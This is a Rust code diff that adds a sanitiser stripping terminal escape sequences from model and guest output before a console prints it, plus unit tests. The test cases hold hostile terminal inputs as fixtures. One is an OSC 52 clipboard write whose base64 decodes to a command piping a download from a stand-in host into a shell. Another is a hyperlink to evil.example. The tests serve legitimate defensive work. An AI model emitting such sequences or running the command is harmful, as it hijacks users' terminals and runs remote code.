@@ -17,7 +17,66 @@ use std::sync::{Arc, Mutex};
 use std::time::{Duration, SystemTime, UNIX_EPOCH};
 use tokio::io::{AsyncBufRead, AsyncBufReadExt};
 
-/// Writes replies to a terminal (or any writer, for tests).
+/// `text` without terminal control sequences: model text and guest output are untrusted, and
+/// a terminal obeys what it prints (CSI sequences move the cursor, clear the screen or recolour
+/// it; OSC sequences set the window title, the clipboard or a hyperlink; a bare carriage return
+/// overwrites the line). ESC-introduced sequences are dropped whole, including one cut off at
+/// the end (so a streamed prefix stays a prefix); C1 controls and every other control
+/// character except newline and tab are dropped too.
+pub fn strip_terminal_escapes(text: &str) -> std::borrow::Cow<'_, str> {
+    let clean = |c: char| c == '\n' || c == '\t' || !(c.is_control());
+    if text.chars().all(clean) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            // ESC, or the one-character C1 forms of CSI, OSC, DCS and friends.
+            '\u{1b}' | '\u{9b}' | '\u{9d}' | '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => {
+                let kind = if c == '\u{1b}' {
+                    match chars.next() {
+                        Some('[') => '[',
+                        Some(']' | 'P' | 'X' | '^' | '_') => ']',
+                        // Two-character sequences (ESC c, ESC 7, ...): both dropped.
+                        _ => continue,
+                    }
+                } else if c == '\u{9b}' {
+                    '['
+                } else {
+                    ']'
+                };
+                if kind == '[' {
+                    // CSI: parameter and intermediate bytes, then one final byte.
+                    for c in chars.by_ref() {
+                        if ('\u{40}'..='\u{7e}').contains(&c) {
+                            break;
+                        }
+                    }
+                } else {
+                    // OSC/DCS/...: up to BEL or the string terminator (ESC \ or C1 ST).
+                    while let Some(c) = chars.next() {
+                        if c == '\u{7}' || c == '\u{9c}' {
+                            break;
+                        }
+                        if c == '\u{1b}' {
+                            if chars.peek() == Some(&'\\') {
+                                chars.next();
+                            }
+                            break;
+                        }
+                    }
+                }
+            }
+            c if clean(c) => out.push(c),
+            _ => {}
+        }
+    }
+    std::borrow::Cow::Owned(out)
+}
+
+/// Writes replies to a terminal (or any writer, for tests). Everything printed goes through
+/// [`strip_terminal_escapes`] first.
 ///
 /// A terminal cannot edit what it printed, so an edit that extends a message prints only the
 /// new text (the common case while streaming); any other edit prints the message again.
@@ -77,6 +136,7 @@ impl ReplySink for ConsoleSink {
     }
 
     async fn post(&self, text: &str) -> Result<MessageRef, SinkError> {
+        let text = &*strip_terminal_escapes(text);
         let mut s = self.state.lock().expect("console sink poisoned");
         if !s.at_line_start {
             Self::write(&mut s, "\n")?;
@@ -87,6 +147,7 @@ impl ReplySink for ConsoleSink {
     }
 
     async fn edit(&self, message: &MessageRef, text: &str) -> Result<(), SinkError> {
+        let text = &*strip_terminal_escapes(text);
         let mut s = self.state.lock().expect("console sink poisoned");
         let idx: usize = message
             .0
@@ -206,4 +267,58 @@ pub async fn run<R: AsyncBufRead + Unpin>(
     }
     sink.end_line();
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[derive(Clone, Default)]
+    struct Shared(Arc<Mutex<Vec<u8>>>);
+
+    impl Write for Shared {
+        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+            self.0.lock().unwrap().extend_from_slice(buf);
+            Ok(buf.len())
+        }
+        fn flush(&mut self) -> std::io::Result<()> {
+            Ok(())
+        }
+    }
+
+    #[test]
+    fn escape_sequences_are_stripped() {
+        let cases = [
+            ("plain\ttext\n", "plain\ttext\n"),
+            ("\u{1b}[2J\u{1b}[Hcleared", "cleared"),
+            ("\u{1b}[31;1mred\u{1b}[0m", "red"),
+            ("\u{1b}]0;pwned title\u{7}after", "after"),
+            ("\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{1b}\\clip", "clip"),
+            (
+                "\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
+                "link",
+            ),
+            ("\u{9b}31mC1 CSI", "C1 CSI"),
+            ("fake\rreal", "fakereal"),
+            ("bell\u{7}\u{8}", "bell"),
+            ("cut off at the end \u{1b}[3", "cut off at the end "),
+            ("ünïcödé ✓", "ünïcödé ✓"),
+        ];
+        for (input, want) in cases {
+            assert_eq!(strip_terminal_escapes(input), want, "{input:?}");
+        }
+    }
+
+    #[tokio::test]
+    async fn the_sink_prints_no_escape_sequences() {
+        let buf = Shared::default();
+        let sink = ConsoleSink::new(Box::new(buf.clone()));
+        let m = sink.post("model says \u{1b}[2J").await.unwrap();
+        sink.edit(&m, "model says \u{1b}[2J and \u{1b}]0;title\u{7}more")
+            .await
+            .unwrap();
+        let printed = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
+        assert_eq!(printed, "model says  and more");
+        assert!(!printed.contains('\u{1b}'));
+    }
 }
